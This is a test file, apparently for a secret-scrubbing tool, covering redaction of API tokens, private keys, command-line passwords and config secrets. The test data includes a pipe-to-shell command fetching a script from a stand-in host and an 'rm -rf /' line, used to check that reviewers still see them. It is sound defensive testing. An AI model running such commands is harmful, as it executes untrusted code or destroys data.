import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  CUSTOM_PATTERN_BUDGET_MS,
  label,
  type RedactionKind,
  ScrubConfigError,
  scrub,
  scrubLine,
  scrubResult,
  scrubWithReport,
} from "../../src/core/scrub.js";
import { resultFieldNames } from "../../src/spec/schemas.js";

interface CorpusEntry {
  name: string;
  secret: string;
  context: string;
}

const CORPUS: CorpusEntry[] = JSON.parse(readFileSync(new URL("../../fixtures/secrets/corpus.json", import.meta.url), "utf8"));

const KINDS: readonly RedactionKind[] = ["token", "private-key", "password", "secret", "home-path", "high-entropy", "custom"];
const ALL_LABELS = KINDS.map(label).join(" ");
const LABEL_RE = /\[REDACTED:(?:token|private-key|password|secret|home-path|high-entropy|custom)\]/g;

const sha1 = (s: string) => createHash("sha1").update(s).digest("hex");
const sha256 = (s: string) => createHash("sha256").update(s).digest("hex");
const total = (r: { redactions: Partial<Record<RedactionKind, number>> }) => Object.values(r.redactions).reduce((a, b) => a + (b ?? 0), 0);

/** Deterministic fake values, so the test source holds no credential-shaped literals. */
function fake(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
    state = (state ^ (state >>> 13)) >>> 0;
    return state / 4294967296;
  };
  return (alphabet: string, n: number) => Array.from({ length: n }, () => alphabet[Math.floor(next() * alphabet.length)]).join("");
}
const U = "ABCDEFGHIJKLMNOPQRSTUVWXYZ";
const L = "abcdefghijklmnopqrstuvwxyz";
const D = "0123456789";
const B62 = U + L + D;
const HEX = "0123456789abcdef";
const rnd = fake(0x5eed);
/** Random base62 that surely has a digit and both cases (so the high-entropy rule sees it as noise). */
const noise = (n: number) => "7Qx" + rnd(B62, n - 3);

/** 8-character windows of the secret that do not also occur elsewhere in its context (those may legitimately stay). */
function uniqueWindows(entry: CorpusEntry, size = 8): string[] {
  const rest = entry.context.split(entry.secret).join("\u0000");
  const out = new Set<string>();
  for (const line of entry.secret.split(/\r?\n/)) {
    for (let i = 0; i + size <= line.length; i++) {
      const w = line.slice(i, i + size);
      if (!rest.includes(w) && !ALL_LABELS.includes(w)) out.add(w);
    }
  }
  return [...out];
}

/** `input` (default: the entry's own context) decides which windows are the secret's alone. */
function expectClean(entry: CorpusEntry, text: string, input = entry.context) {
  expect(text).not.toContain(entry.secret);
  const leaked = uniqueWindows({ ...entry, context: input }).filter((w) => text.includes(w));
  expect(leaked, `${entry.name}: secret fragments survived in ${JSON.stringify(text)}`).toEqual([]);
}

describe("secrets corpus fixture", () => {
  it("has at least 35 distinct, well-formed entries", () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(35);
    expect(new Set(CORPUS.map((e) => e.name)).size).toBe(CORPUS.length);
    expect(new Set(CORPUS.map((e) => e.secret)).size).toBe(CORPUS.length);
    for (const e of CORPUS) {
      expect(Object.keys(e).sort()).toEqual(["context", "name", "secret"]);
      expect(e.secret.length, e.name).toBeGreaterThanOrEqual(8);
      expect(e.context, e.name).toContain(e.secret);
      expect(e.context, e.name).not.toBe(e.secret);
      expect(uniqueWindows(e).length, e.name).toBeGreaterThan(0);
    }
  });
});

describe("corpus: every secret shape is redacted", () => {
  it.each(CORPUS.map((e) => [e.name, e] as const))("%s", (_name, entry) => {
    const report = scrubWithReport(entry.context);
    expectClean(entry, report.text);
    expect(total(report)).toBeGreaterThan(0);
    expect(report.text).toMatch(LABEL_RE);
    // Idempotent, and a second pass finds nothing more to report.
    const again = scrubWithReport(report.text);
    expect(again.text).toBe(report.text);
    expect(again.redactions).toEqual({});
    // Deterministic.
    expect(scrub(entry.context)).toBe(report.text);
  });

  const wrappers: Record<string, { wrap: (s: string) => string; secret: (s: string) => string }> = {
    "a JSON string": { wrap: (s) => JSON.stringify({ file: s }), secret: (s) => JSON.stringify(s).slice(1, -1) },
    "a JSON string, after an escaped newline": {
      wrap: (s) => JSON.stringify({ file: `intro\n${s}` }),
      secret: (s) => JSON.stringify(s).slice(1, -1),
    },
    "a JSON string, after an escaped tab": {
      wrap: (s) => JSON.stringify({ file: `intro\t${s}` }),
      secret: (s) => JSON.stringify(s).slice(1, -1),
    },
    "a diff hunk": {
      wrap: (s) =>
        s
          .split("\n")
          .map((l) => `+${l}`)
          .join("\n"),
      secret: (s) => s.split("\n").join("\n+"),
    },
    "a fenced block": { wrap: (s) => "```\n" + s + "\n```\n", secret: (s) => s },
    "CRLF lines": { wrap: (s) => s.replace(/\n/g, "\r\n") + "\r\n", secret: (s) => s.replace(/\n/g, "\r\n") },
    "an indented block": {
      wrap: (s) =>
        s
          .split("\n")
          .map((l) => `    ${l}`)
          .join("\n"),
      secret: (s) => s.split("\n").join("\n    "),
    },
    "surrounding prose": { wrap: (s) => `Before the leak.\n${s}\nAfter the leak.`, secret: (s) => s },
    // a config or a key commented out, quoted in Markdown or removed in a diff: every line behind the same gutter
    ...Object.fromEntries(
      ["# ", "// ", " * ", "; ", "> ", "-", "+  # "].map((gutter) => [
        `a "${gutter}" gutter`,
        {
          wrap: (s: string) =>
            s
              .split("\n")
              .map((l) => gutter + l)
              .join("\n"),
          secret: (s: string) => s.split("\n").join(`\n${gutter}`),
        },
      ]),
    ),
  };

  it.each(Object.keys(wrappers))("still redacts every entry inside %s", (how) => {
    const { wrap, secret } = wrappers[how]!;
    for (const e of CORPUS) {
      const entry = { name: e.name, secret: secret(e.secret), context: wrap(e.context) };
      const report = scrubWithReport(entry.context);
      expectClean(entry, report.text);
      expect(total(report), e.name).toBeGreaterThan(0);
      expect(scrub(report.text), e.name).toBe(report.text);
    }
  });
});

describe("digests survive", () => {
  const digests = CORPUS.flatMap((e) => [sha1(e.name), sha256(e.name)]);

  it("a document of every corpus entry interleaved with 40- and 64-hex digests keeps every digest intact", () => {
    const forms = [
      (d: string) => d,
      (d: string) => `commit ${d}`,
      (d: string) => `artifact_sha256: ${d}`,
      (d: string) => `"artifact_sha256_reviewed": "${d}",`,
      (d: string) => `https://github.com/acme/app/commit/${d}`,
      (d: string) => `integrity sha256=${d}`,
      (d: string) => `.guild/runs/${d}/result.json`,
      (d: string) => `| ${d.toUpperCase()} |`,
      (d: string) => `\`${d}\``,
    ];
    const lines: string[] = ["# Review packet", ""];
    CORPUS.forEach((e, i) => {
      lines.push(forms[i % forms.length]!(digests[2 * i]!), e.context, forms[(i + 4) % forms.length]!(digests[2 * i + 1]!), "");
    });
    const doc = lines.join("\n");
    const report = scrubWithReport(doc);
    for (const d of digests) {
      expect(report.text.includes(d) || report.text.includes(d.toUpperCase()), d).toBe(true);
    }
    for (const e of CORPUS) expectClean(e, report.text, doc);
    expect(total(report)).toBeGreaterThanOrEqual(CORPUS.length);
    expect(scrub(report.text)).toBe(report.text);
  });

  it.each([
    ["bare sha1", (d1: string) => d1],
    ["bare sha256", (_: string, d2: string) => d2],
    ["upper-case", (_: string, d2: string) => d2.toUpperCase()],
    ["git log", (d1: string) => `commit ${d1}\nAuthor: A <a@example.com>`],
    ["tree/parent", (d1: string, d2: string) => `tree ${d1}\nparent ${d2.slice(0, 40)}`],
    ["commit URL", (d1: string) => `see https://github.com/acme/app/commit/${d1}`],
    ["compare URL", (d1: string, d2: string) => `https://github.com/acme/app/compare/${d1}...${d2.slice(0, 40)}`],
    ["path segment", (_: string, d2: string) => `.guild/artifacts/${d2}/packet.json`],
    ["trailing slash", (_: string, d2: string) => `${d2}/`],
    ["key=digest", (_: string, d2: string) => `sha256=${d2}`],
    ["docker digest", (_: string, d2: string) => `image@sha256:${d2}`],
    ["JSON field", (_: string, d2: string) => `{"artifact_sha256": "${d2}"}`],
    ["checksum file", (_: string, d2: string) => `${d2}  dist/guild-bus-0.1.0.tgz`],
    ["in parentheses", (d1: string) => `fixed in (${d1}).`],
  ] as const)("%s", (_name, make) => {
    const text = make(sha1("a"), sha256("b"));
    expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
  });

  it("hex strings that are not 40 or 64 long are not protected as digests", () => {
    const hex32 = rnd(HEX, 29) + "a1f";
    expect(scrub(`value ${hex32} end`)).toBe(`value ${label("high-entropy")} end`);
  });
});

describe("token shapes", () => {
  const shapes: Array<[string, string]> = [
    ["openai sk-", "sk-" + noise(48)],
    ["openai sk-proj-", "sk-proj-" + noise(60)],
    ["anthropic sk-ant-", "sk-ant-api03-" + noise(90) + "AA"],
    ["github ghp_", "ghp_" + noise(36)],
    ["github gho_", "gho_" + noise(36)],
    ["github ghs_", "ghs_" + noise(36)],
    ["github ghu_", "ghu_" + noise(36)],
    ["github ghr_", "ghr_" + noise(36)],
    ["github_pat_", "github_pat_11" + noise(20) + "_" + noise(59)],
    ["slack xoxb-", "xoxb-" + rnd(D, 11) + "-" + noise(10)],
    ["slack xoxp-", "xoxp-" + noise(10)],
    ["aws AKIA", "AKIA" + rnd(U + D, 16)],
    ["aws ASIA", "ASIA" + rnd(U + D, 16)],
    ["jwt", "eyJhbGciOiJIUzI1NiJ9." + noise(30) + "." + noise(20)],
    ["google AIza", "AIza" + noise(35)],
    ["gitlab glpat-", "glpat-" + noise(20)],
    ["npm_", "npm_" + noise(36)],
    ["huggingface hf_", "hf_" + noise(34)],
    ["stripe sk_live_", "sk_live_" + noise(24)],
    ["stripe rk_live_", "rk_live_" + noise(24)],
    ["stripe pk_test_", "pk_test_" + noise(24)],
    ["stripe whsec_", "whsec_" + noise(32)],
    ["sendgrid SG.", "SG." + noise(22) + "." + noise(43)],
    ["slack webhook", "https://hooks.slack.com/services/T00000000/B00000000/" + noise(24)],
    ["xai-", "xai-" + noise(60)],
    ["twilio AC", "AC" + rnd(HEX, 32)],
    ["digitalocean dop_v1_", "dop_v1_" + rnd(HEX, 64)],
    ["shopify shpat_", "shpat_" + rnd(HEX, 32)],
    ["pypi-", "pypi-AgEIcHlwaS5vcmc" + noise(50)],
    ["groq gsk_", "gsk_" + noise(52)],
    ["google ya29.", "ya29.a0" + noise(40)],
    ["telegram bot token", rnd(D, 10) + ":AA" + noise(33)],
    ["age secret key", "AGE-SECRET-KEY-1" + rnd("QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L".toUpperCase(), 58)],
  ];

  it.each(shapes)("%s is replaced whole by [REDACTED:token]", (_name, value) => {
    for (const [before, after] of [
      ["key ", " here"],
      ['"', '"'],
      ["(", ")"],
      ["", ""],
      ["x=", ";"],
    ]) {
      const report = scrubWithReport(`${before}${value}${after}`);
      expect(report.text).toBe(`${before}${label("token")}${after}`);
      expect(report.redactions.token).toBe(1);
    }
  });

  // left out: the shapes with their own start rule (a JWT's, a Telegram token's digits), and those whose body has no
  // random run of 16 (Slack's short xox parts): glued, they are not told from words. dop_v1_'s 64 hex read as a digest,
  // but its prefix alone names it
  const glueless = ["jwt", "telegram bot token", "slack xoxb-", "slack xoxp-"];
  it.each(shapes.filter(([name]) => !glueless.includes(name)))(
    "%s glued to a word character is replaced too, the word kept",
    (_name, value) => {
      for (const glue of ["0", "x", "key_", "é"]) expect(scrub(`${glue}${value} here`)).toBe(`${glue}${label("token")} here`);
    },
  );

  it.each([
    ["a test name", "task_test_validatesTheInputCorrectly"],
    ["a branch name", "disk-2024-refactor-the-parser-module-now"],
    ["a word run on", "mask_live_abcdefghijklmnopqrs"],
    ["a path", "src/high_score_board_renderer_component.ts"],
  ])("a word that ends as a token's prefix does is not a token: %s", (_name, text) => {
    expect(scrubWithReport(`see ${text} here`).redactions).toEqual({});
  });

  it.each([
    ["sk- with 19 characters", "sk-" + "abcdefghijklmnopqrs"],
    ["ghp_ with 35 characters", "ghp_" + "abcdefghijklmnopqrstuvwxyzabcdefghi"],
    ["xoxb- with 9 characters", "xoxb-" + "123456789"],
    ["AKIA with 15 characters", "AKIA" + "ABCDEFGHIJKLMNO"],
    ["AIza with 34 characters", "AIza" + "abcdefghijklmnopqrstuvwxyzabcdefgh"],
    ["sk-learn", "sk-learn"],
    ["task-runner", "task-runner-for-everything-here"],
  ])("%s is too short or not a token", (_name, value) => {
    expect(scrubWithReport(`x ${value} y`).redactions.token).toBeUndefined();
  });

  it("Authorization headers keep the scheme and lose the credential", () => {
    const tok = noise(40);
    expect(scrub(`Authorization: Bearer ${tok}`)).toBe(`Authorization: Bearer ${label("token")}`);
    expect(scrub(`authorization=bearer ${tok}`)).toBe(`authorization=bearer ${label("token")}`);
    expect(scrub(`AUTHORIZATION: Basic ${Buffer.from("u:p4ss").toString("base64")}`)).toBe(`AUTHORIZATION: Basic ${label("token")}`);
    expect(scrub(`Authorization: token abc`)).toBe(`Authorization: token ${label("token")}`);
    expect(scrub(`Authorization: Bot x.y.z`)).toBe(`Authorization: Bot ${label("token")}`);
    expect(scrub(`-H 'Authorization: Bearer ${tok}'`)).toBe(`-H 'Authorization: Bearer ${label("token")}'`);
    // a quoted header name (JSON, a dict), escaped in a JSON string too
    expect(scrub(`{"Authorization": "Basic dXNlcjpw"}`)).toBe(`{"Authorization": "Basic ${label("token")}"}`);
    expect(scrub(`{'authorization': 'Bearer abcd'}`)).toBe(`{'authorization': 'Bearer ${label("token")}'}`);
    expect(scrub(`"{\\"Authorization\\": \\"Bearer abcd\\"}"`)).toBe(`"{\\"Authorization\\": \\"Bearer ${label("token")}\\"}"`);
    expect(scrub(`Authorization: Bearer ab"cd,ef`)).toBe(`Authorization: Bearer ${label("token")}`);
    // a placeholder after the scheme is kept, as the secret rule keeps one; a token glued to it is not
    expect(scrub(`Authorization: Bearer <x>abcd`)).toBe(`Authorization: Bearer ${label("token")}`);
  });

  it.each([
    `{"Authorization": "Bearer <YOUR_API_KEY>"}`,
    `{"Authorization": "Bearer \${TOKEN}"}`,
    `{"Authorization": "Basic …"}`,
    `{'authorization': 'Bearer process.env.API_KEY'}`,
    "Authorization: Bearer <YOUR API KEY>",
    "Authorization: Bearer $TOKEN",
    "Authorization: token ‹token›",
  ])("an Authorization header whose value is a placeholder is kept: %s", (text) => {
    expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
  });

  it("a bare Bearer needs at least 16 token characters", () => {
    expect(scrub(`use Bearer ${"a".repeat(15)}`)).toBe(`use Bearer ${"a".repeat(15)}`);
    expect(scrub(`use Bearer ${"a1B2".repeat(4)}`)).toBe(`use Bearer ${label("token")}`);
    expect(scrub("the bearer of bad news")).toBe("the bearer of bad news");
  });
});

describe("passwords on a command line", () => {
  it.each([
    ["mysql -u root -pHunter2 db", "mysql -u root -p[REDACTED:password] db"],
    ["mysqldump -uroot -p'my pass' db > out.sql", "mysqldump -uroot -p[REDACTED:password] db > out.sql"],
    ["docker login -u bob -p S3cretX registry.io", "docker login -u bob -p [REDACTED:password] registry.io"],
    ["podman login --password S3cretX quay.io", "podman login --password [REDACTED:password] quay.io"],
    ['docker login -u bob --password "s p" r.io', "docker login -u bob --password [REDACTED:password] r.io"],
    ["helm repo add x https://h --username u --password hunter22", "helm repo add x https://h --username u --password [REDACTED:password]"],
    ["sshpass -p 'S3cr3t Pw!' ssh user@host", "sshpass -p [REDACTED:password] ssh user@host"],
    ["sshpass -pS3cr3tPw scp f u@h:", "sshpass -p[REDACTED:password] scp f u@h:"],
    ["sshpass -v -P assword: -p hunter22 ssh -p 22 h", "sshpass -v -P assword: -p [REDACTED:password] ssh -p 22 h"],
  ])("%s", (text, scrubbed) => {
    expect(scrub(text)).toBe(scrubbed);
  });

  it.each([
    "mysql -p db", // prompts; db is the database
    "mysql -p$DB_PASSWORD db",
    "psql -h host -p 5432 db",
    "docker run -p 8080:80 image",
    "echo $T | docker login --password-stdin -u bob",
    "docker login -p $REGISTRY_PASSWORD",
    "Use the --password flag of docker login to pass it.",
    "docker login; mysql -p db",
    "sshpass -f pwfile ssh -p 2222 u@h", // ssh's port, after the command sshpass runs
    "sshpass -e ssh -p 22 host",
    "sshpass -p $SSHPASS ssh u@h",
  ])("is kept where it is no password: %s", (text) => {
    expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
  });
});

describe("key = value secrets", () => {
  it.each([
    ["password=hunter2", `password=${label("secret")}`],
    ["DB_PASSWORD=s3cr3t!", `DB_PASSWORD=${label("secret")}`],
    ['DB_PASSWORD="s3cr3t!"', `DB_PASSWORD="${label("secret")}"`],
    ["export API_KEY='abc123'", `export API_KEY='${label("secret")}'`],
    ['{"api_key": "abc123", "region": "eu"}', `{"api_key": "${label("secret")}", "region": "eu"}`],
    ["apiKey: abc123", `apiKey: ${label("secret")}`],
    ["x-api-key: abc123", `x-api-key: ${label("secret")}`],
    ["client_secret = abc", `client_secret = ${label("secret")}`],
    ["aws_secret_access_key = abc/def+ghi", `aws_secret_access_key = ${label("secret")}`],
    ["accessKey: AbC", `accessKey: ${label("secret")}`],
    ["private_key: abc", `private_key: ${label("secret")}`],
    ["auth-key=abc", `auth-key=${label("secret")}`],
    ["credentials: abc", `credentials: ${label("secret")}`],
    ["passwd: abc", `passwd: ${label("secret")}`],
    ["pwd=abc", `pwd=${label("secret")}`],
    ["--password=hunter2", `--password=${label("secret")}`],
    ["spring.datasource.password=hunter2", `spring.datasource.password=${label("secret")}`],
    ['token := "abc"', `token := "${label("secret")}"`],
    ["GITHUB_TOKEN: abc", `GITHUB_TOKEN: ${label("secret")}`],
    // A bare value runs to whitespace: a secret may hold "&", so the rest of a query string goes too.
    ["access_token=abc&x=1", `access_token=${label("secret")}`],
    ["password: abc, user: bob", `password: ${label("secret")}, user: bob`],
    // a "[" in a literal is no subscript: it goes on after its "]", is left open, or holds what code does not
    ["PASSWORD=Tr0ub4dor[&3]", `PASSWORD=${label("secret")}`],
    ["db_password = Kx9[q]Lm2", `db_password = ${label("secret")}`],
    ["DB_PASSWORD=hunter2[", `DB_PASSWORD=${label("secret")}`],
    ["password: p4ssW0rd[x]yz", `password: ${label("secret")}`],
  ])("%s", (input, expected) => {
    const report = scrubWithReport(input);
    expect(report.text).toBe(expected);
    expect(report.redactions.secret).toBe(1);
  });

  const R = label("secret");
  it.each([
    // the whole value, not its first word or the text before its first separator-like character
    ["password: correct horse battery staple", `password: ${R}`],
    ["smtp_password = Summer Rain 2024 Nine", `smtp_password = ${R}`],
    ["PASSWORD=a b c # the old one", `PASSWORD=${R} # the old one`],
    ["password: it's me", `password: ${R}`],
    ["PASSWORD=abc,def;ghi", `PASSWORD=${R}`],
    ["password=a b\r\nuser=bob\r\n", `password=${R}\r\nuser=bob\r\n`],
    // a "," or ";" ends the value where the next assignment starts, or at the end of the line
    ["Server=db;User Id=sa;Password=p@ss w0rd;Database=app", `Server=db;User Id=sa;Password=${R};Database=app`],
    ["{password: abc def, user: bob}", `{password: ${R}, user: bob}`],
    // inside a string or a code span, the value ends with it
    ["echo 'password=a b c' | login", `echo 'password=${R}' | login`],
    ['run("--password=a b", user)', `run("--password=${R}", user)`],
    ["set `api_key: a b` first", `set \`api_key: ${R}\` first`],
    ['{\\"password\\": \\"a b\\"}', `{\\"password\\": \\"${R}\\"}`],
    // YAML: a tag or an anchor comes before the value; '' in a single-quoted value is a quote
    ["client_secret: !!str Zq8Lm3Np0Rt", `client_secret: !!str ${R}`],
    ["db_password: &dbpw Pw-Kx91-Lq", `db_password: &dbpw ${R}`],
    ['password: !secret "a b"', `password: !secret "${R}"`],
    ["password: 'it''s here'", `password: '${R}'`],
    // YAML block scalars: every line indented deeper than the key, blank lines inside it
    ["password: |\n  Hunter2-Horse\n\n  Battery\nnext: 1", `password: |\n  ${R}\nnext: 1`],
    ["  api_token: >-\n    tkn-Q7zP9rL2xW\n  user: bob", `  api_token: >-\n    ${R}\n  user: bob`],
    ["secret: |2+ # kept\n   a\n   b\n\nx: 1", `secret: |2+ # kept\n   ${R}\n\nx: 1`],
    ["password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  6238\n", `password: !vault |\n  ${R}\n`],
    ["- password: >\n    a\n    b\n- user: x", `- password: >\n    ${R}\n- user: x`],
    ["password: |\r\n  a b\r\n  c\r\nnext: 1\r\n", `password: |\r\n  ${R}\r\nnext: 1\r\n`],
    ["+  password: |\n+    new one\n-    old one\n   other: 1", `+  password: |\n+    ${R}\n   other: 1`],
    ["> token: |\n>   a b\n> user: x", `> token: |\n>   ${R}\n> user: x`],
    // a value on the lines below its key
    ["password:\n  correct horse\n  battery\nuser: bob", `password:\n  ${R}\nuser: bob`],
    ["api_keys:\n- abc\n- def\nother: 1", `api_keys:\n- ${R}\nother: 1`],
    // TOML and Python multi-line strings
    ['password = """\nline one\nline two\n"""', `password = """\n${R}\n"""`],
    ["secret = '''a b'''", `secret = '''${R}'''`],
    ['password = """abc\\"""def"""', `password = """${R}"""`],
    // a quoted value that goes on over its lines (YAML flow scalars, dotenv, shells)
    ['password: "abc\n  def"\nnext: 1', `password: "${R}"\nnext: 1`],
    ["password: 'it''s\n  here'\nnext: 1", `password: '${R}'\nnext: 1`],
    ['PASSWORD="multi\nline"\nNEXT=1', `PASSWORD="${R}"\nNEXT=1`],
    ['password = "abc\\\n  def"', `password = "${R}"`],
    // a bare value continued: indented deeper than its key (YAML plain scalars, INI), or after a backslash
    ["token: abcdef\n  ghijkl\n\n  mnop\nnext: 1", `token: ${R}\nnext: 1`],
    ["- password: abc\n    def\n  user: x", `- password: ${R}\n  user: x`],
    ["password = abc\\\n    def\nnext=1", `password = ${R}\nnext=1`],
    ["export PASSWORD=abc\\\ndef\nNEXT=1", `export PASSWORD=${R}\nNEXT=1`],
    ["password=abc\\\\\nnext=1", `password=${R}\nnext=1`],
    // a quote, backtick, "," or ";" inside the value's word is the value's own
    ['password=ab"cdef123', `password=${R}`],
    ["password: ab`cd ef", `password: ${R}`],
    ['see password=ab"c,d;e here', `see password=${R} here`],
  ])("the whole value: %j", (input, expected) => {
    const report = scrubWithReport(input);
    expect(report.text).toBe(expected);
    expect(report.redactions).toEqual({ secret: 1 });
    expect(scrubWithReport(report.text)).toEqual({ text: report.text, redactions: {} });
  });

  it.each([
    "password: |\nnext: 1",
    "credentials:\n  username: bob\n  region: eu",
    "token: string | undefined",
    "password: ${DB_PASSWORD} # from the environment",
    "token = getToken(); // cached",
    '"password=" + input',
    "password=\nuser=bob",
    'api_key = os.environ.get(\n    "X")',
    // code: a subscript, a constructor call
    '    getLoc(nodeOrToken: Options["SyntaxElementWithLoc"]): SourceLocation;',
    '\t\ttoken = new state.Token("inline", "", 0);',
    "    process.current_process().authkey = data['authkey']",
  ])("no value, or a harmless one: %j", (input) => {
    expect(scrubWithReport(input)).toEqual({ text: input, redactions: {} });
  });

  it.each([
    // a quote left open: the value stops at the next entry or a blank line, which stay
    ['PASSWORD="abc\nUSER=bob"\n', `PASSWORD="${R}\nUSER=bob"\n`],
    ["password: 'abc\n  def\n\nprose 'here'", `password: '${R}\n\nprose 'here'`],
    // a continuation is deeper than its key, and no comment, list item or entry of its own
    ["- password: see the vault\n  - rotated monthly", `- password: ${R}\n  - rotated monthly`],
    ["  password: abc\n  user: bob\n    # note", `  password: ${R}\n  user: bob\n    # note`],
    ["password: abc\n  # note\n  x: 1", `password: ${R}\n  # note\n  x: 1`],
    // in a string or a code span, its quote ends the value
    ['{"env": "A=1\\nPASSWORD=abc\\nB=2"}', `{"env": "A=1\\nPASSWORD=${R}"}`],
    ["see `password=abc` here", `see \`password=${R}\` here`],
    ['"--token=abc", x', `"--token=${R}", x`],
  ])("the value ends where its text does: %j", (input, expected) => {
    expect(scrubWithReport(input)).toEqual({ text: expected, redactions: { secret: 1 } });
    expect(scrub(expected)).toBe(expected);
  });

  it.each([
    // in a code span, a backtick ends the value whatever follows it: the rest of the line stays
    ["Call `login(token=t)`. The rest stays.", `Call \`login(token=${R}\`. The rest stays.`],
    ["| `{token: T}`. | next cell |", `| \`{token: ${R}\`. | next cell |`],
    [
      "  `{pem: <string|buffer>[, passphrase: <string>]}`. The object form",
      `  \`{pem: <string|buffer>[, passphrase: ${R}\`. The object form`,
    ],
    // outside one, a backtick inside the value's word is still the value's
    ["see `a` and token=ab`c.d here", `see \`a\` and token=${R} here`],
    // a shell's `a \` ends the value: the next line is the command
    ["PASSWORD=${PASSWORD:-changeme} \\\n  ./run.sh --verbose\necho done\n", `PASSWORD=${R} \\\n  ./run.sh --verbose\necho done\n`],
    ["password = abc\\\n  def \\\n  ./run\n", `password = ${R} \\\n  ./run\n`],
    // code goes on below its first line as code, not as a value (an open bracket, an operator)
    [
      '    token = (\n        self._token\n        or os.environ.get("TOKEN")\n    )\n',
      `    token = ${R}\n        self._token\n        or os.environ.get("TOKEN")\n    )\n`,
    ],
    [
      "    pwd = (self.password.encode('utf-8') if isinstance(self.password, str)\n                        else self.password)\n",
      `    pwd = ${R}\n                        else self.password)\n`,
    ],
    ["  token = first\n    || fallback\n", `  token = ${R}\n    || fallback\n`],
    ["  token = first\n    .trim()\n", `  token = ${R}\n    .trim()\n`],
    // a value that ended at a quote still ends there once it is a label: one label, counted once
    ['    secrets_policy: { redaction_patterns: ["internal-[0-9]+"] },', `    secrets_policy: ${R}"internal-[0-9]+"] },`],
    // an escaped quote after a bracket opens a string in a JSON string: the key in it stays
    ['{\\"Credentials\\": {\\"Password\\": \\"pw\\"}}', `{\\"Credentials\\": {\\"Password\\": \\"${R}\\"}}`],
  ])("the value ends where the code or text around it says: %j", (input, expected) => {
    expect(scrubWithReport(input)).toEqual({ text: expected, redactions: { secret: 1 } });
    expect(scrubWithReport(expected)).toEqual({ text: expected, redactions: {} });
  });

  it("a section's own keys are scanned one by one", () => {
    expect(scrub("credentials:\n  username: bob\n  password: a b\n")).toBe(`credentials:\n  username: bob\n  password: ${R}\n`);
  });

  it("labels already in a value stay, and each run of text between them is one label more: the count is the labels added", () => {
    const token = `ghp_${noise(36)}`;
    const report = scrubWithReport(`password: one ${token} two\nnext`);
    expect(report.text).toBe(`password: ${R} ${label("token")} ${R}\nnext`);
    expect(report.redactions).toEqual({ token: 1, secret: 2 });
    expect(scrubWithReport(`password: |\n  ${token}\n`)).toEqual({ text: `password: |\n  ${label("token")}\n`, redactions: { token: 1 } });
  });

  it("a quoted value is redacted to its closing quote, spaces and escaped quotes included", () => {
    expect(scrub('passphrase = "correct horse battery staple"')).toBe(`passphrase = "${label("secret")}"`);
    expect(scrub("password: 'two words'")).toBe(`password: '${label("secret")}'`);
    expect(scrub('password: "a\\"b c"')).toBe(`password: "${label("secret")}"`);
    expect(scrub('{"cfg": "passphrase = \\"a b c\\""}')).toBe(`{"cfg": "passphrase = \\"${label("secret")}\\""}`);
    expect(scrub('password: "it\'s me"')).toBe(`password: "${label("secret")}"`);
  });

  it.each([
    "password: string",
    "token?: string;",
    "apiKey: string | undefined",
    "token: ${TOKEN}",
    "password=$DB_PASSWORD",
    "api_key = process.env.API_KEY",
    'secret = os.environ["SECRET"]',
    "token: <your-token-here>",
    'token: "<your token here>"',
    "password: ********",
    "password=xxxx",
    "token: null",
    "token: ${{ secrets.NPM_TOKEN }}",
    "password: {{ .Values.db.password }}",
    "password: …",
    "token: ‹token›",
  ])("placeholder/lookup value kept: %s", (input) => {
    expect(scrubWithReport(input)).toEqual({ text: input, redactions: {} });
  });
});

describe("private keys", () => {
  const body = Array.from({ length: 4 }, () => rnd(B62 + "+/", 64)).join("\n");

  it.each(["RSA ", "EC ", "OPENSSH ", "DSA ", "ENCRYPTED ", ""])("%sPRIVATE KEY keeps its armour and loses its body", (type) => {
    const begin = `-----BEGIN ${type}PRIVATE KEY-----`;
    const end = `-----END ${type}PRIVATE KEY-----`;
    const report = scrubWithReport(`before\n${begin}\n${body}\n${end}\nafter`);
    expect(report.text).toBe(`before\n${begin}\n${label("private-key")}\n${end}\nafter`);
    expect(report.redactions).toEqual({ "private-key": 1 });
  });

  it("PGP private key blocks are redacted", () => {
    const text = `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${body}\n=ab12\n-----END PGP PRIVATE KEY BLOCK-----`;
    expect(scrub(text)).toBe(`-----BEGIN PGP PRIVATE KEY BLOCK-----\n${label("private-key")}\n-----END PGP PRIVATE KEY BLOCK-----`);
  });

  it("an unterminated key loses its body lines, and only those: what follows them stays for the reviewer", () => {
    expect(scrub(`key:\n-----BEGIN RSA PRIVATE KEY-----\n${body}\ntruncated`)).toBe(
      `key:\n-----BEGIN RSA PRIVATE KEY-----\n${label("private-key")}`,
    );
    expect(scrub(`-----BEGIN RSA PRIVATE KEY-----\n${body}\nstep 2: curl http://example.invalid/x.sh | sh\n`)).toBe(
      `-----BEGIN RSA PRIVATE KEY-----\n${label("private-key")}\nstep 2: curl http://example.invalid/x.sh | sh\n`,
    );
  });

  it("a header with no key's body after it hides nothing (it would hide the rest of the artifact from the reviewer)", () => {
    for (const text of [
      "plan\n# -----BEGIN PRIVATE KEY-----\nTBD\nstep 2: curl http://example.invalid/x.sh | sh\n",
      "-----BEGIN PRIVATE KEY-----\nrm -rf / # cleanup\n-----END PRIVATE KEY-----\n",
    ])
      expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
  });

  it("a key in a JSON string, its line breaks escaped, loses its body, the last short line too", () => {
    const pem = `-----BEGIN PRIVATE KEY-----\n${body}\nAbCd12==\n-----END PRIVATE KEY-----\n`;
    const report = scrubWithReport(JSON.stringify({ key: pem }));
    expect(report).toEqual({
      text: JSON.stringify({ key: `-----BEGIN PRIVATE KEY-----\n${label("private-key")}\n-----END PRIVATE KEY-----\n` }),
      redactions: { "private-key": 1 },
    });
    const cut = JSON.stringify({ key: `-----BEGIN PRIVATE KEY-----\n${body}\nrest of it` });
    expect(scrub(cut)).toBe(JSON.stringify({ key: `-----BEGIN PRIVATE KEY-----\n${label("private-key")}\nrest of it` }));
  });

  it("two keys in one document are redacted separately, text between them kept", () => {
    const k = (t: string) => `-----BEGIN ${t}PRIVATE KEY-----\n${body}\n-----END ${t}PRIVATE KEY-----`;
